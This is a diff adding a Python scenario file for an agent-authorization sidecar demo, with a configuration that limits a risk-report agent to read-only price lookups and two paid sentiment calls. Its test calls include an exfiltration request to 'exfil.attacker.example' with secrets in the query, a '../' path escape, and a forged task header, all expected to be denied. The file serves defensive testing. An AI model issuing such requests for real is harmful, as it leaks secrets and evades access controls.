@@ -1,0 +1,123 @@
+"""The quarterly-risk-report scenario: the task, the agent's calls and what must happen to each.
+
+An analyst (``user:jane.doe@example.com``) asks the risk-reporter agent for the Q3 risk report. The
+task lets the agent GET prices from the internal market-data API (one path prefix, read-only) and
+POST twice to a paid sentiment API whose key the sidecar injects. Everything else is denied.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+__all__ = ["AGENT", "ISSUER", "MARKET", "ON_BEHALF_OF", "SENTIMENT", "TASK_ID", "Call", "calls", "sidecar_config"]
+
+AGENT = "spiffe://demo.agent-authz.local/ns/finance/sa/risk-reporter"
+ON_BEHALF_OF = "user:jane.doe@example.com"
+TASK_ID = "q3-risk-report"
+ISSUER = "https://agent-authz.demo.local"
+MARKET = "market-data.internal"
+SENTIMENT = "sentiment.example.com"
+MARKET_AUDIENCE = "https://market-data.internal"
+
+
+@dataclass(frozen=True)
+class Call:
+    """One call of the sample agent and the outcome the task demands."""
+
+    method: str
+    url: str
+    status: int
+    reason: str
+    note: str
+    headers: dict[str, str] = field(default_factory=dict)
+    body: str | None = None
+
+    def as_json(self) -> dict[str, Any]:
+        """The form :mod:`sidecar.demo.agent` reads."""
+        return {"method": self.method, "url": self.url, "headers": self.headers, "body": self.body}
+
+
+def calls() -> list[Call]:
+    """The agent's calls, partly inside the task and partly outside."""
+    market = f"http://{MARKET}"
+    sentiment = f"http://{SENTIMENT}/v1/analyze"
+    return [
+        Call("GET", f"{market}/v1/prices/ACME?quarter=2026Q3", 200, "allowed", "prices, inside the task"),
+        Call("GET", f"{market}/v1/prices/ACME/volatility", 200, "allowed", "deeper under the allowed prefix"),
+        Call(
+            "GET",
+            f"{market}/v1/prices/GLOBEX",
+            200,
+            "allowed",
+            "agent's own Authorization is replaced",
+            headers={"Authorization": "Bearer agent-supplied-secret"},
+        ),
+        Call("GET", f"{market}/v1/customers/export", 403, "path_not_allowed", "customer data is outside the task"),
+        Call("GET", f"{market}/v1/prices/../customers/export", 403, "path_not_allowed", "dot-segment escape"),
+        Call("DELETE", f"{market}/v1/prices/ACME", 403, "method_not_allowed", "read-only task"),
+        Call("POST", sentiment, 200, "allowed", "paid API, key injected", body='{"text": "ACME beats Q3"}'),
+        Call("POST", sentiment, 200, "allowed", "paid API, 2nd of 2 calls", body='{"text": "GLOBEX misses"}'),
+        Call("POST", sentiment, 429, "budget_exhausted", "paid API over budget", body='{"text": "one more"}'),
+        Call("GET", "http://exfil.attacker.example/upload?d=secrets", 403, "host_not_allowed", "unknown host"),
+        Call(
+            "GET",
+            f"{market}/v1/prices/ACME",
+            403,
+            "unknown_task",
+            "claims a task it does not have",
+            headers={"x-agent-task": "admin-task"},
+        ),
+    ]
+
+
+def sidecar_config(state: Path, upstream_port: int) -> dict[str, Any]:
+    """The demo's ``sidecar.yaml`` as a dict (ports 0: Envoy and the admin server pick free ones)."""
+    address = f"127.0.0.1:{upstream_port}"
+    return {
+        "agent": AGENT,
+        "issuer": {
+            "url": ISSUER,
+            "signing_key": "keys/signing.pem",
+            "next_signing_key": "keys/next.pem",
+            "algorithm": "ES256",
+            "max_token_ttl": "5m",
+        },
+        "listen": {"authz": f"unix:{state / 'authz.sock'}", "admin": "127.0.0.1:0"},
+        "envoy": {
+            "egress_port": 0,
+            "admin_port": 0,
+            "destinations": {MARKET: address, SENTIMENT: address},
+        },
+        "decision_log": {"path": "decisions.log", "stdout": False},
+        "tasks": [
+            {
+                "id": TASK_ID,
+                "agent": AGENT,
+                "on_behalf_of": ON_BEHALF_OF,
+                "purpose": "Generate the Q3 quarterly risk assessment report",
+                "ttl": "30m",
+                "max_calls": 50,
+                "egress": [
+                    {
+                        "name": "market-data-read",
+                        "host": MARKET,
+                        "methods": ["GET"],
+                        "paths": ["/v1/prices/*"],
+                        "audience": MARKET_AUDIENCE,
+                        "scope": "prices:read",
+                    },
+                    {
+                        "name": "sentiment-analyze",
+                        "host": SENTIMENT,
+                        "methods": ["POST"],
+                        "paths": ["/v1/analyze"],
+                        "max_calls": 2,
+                        "token": False,
+                        "credential": {"header": "x-api-key", "file": "secrets/sentiment-api.key"},
+                    },
+                ],
+            }
+        ],
+    }
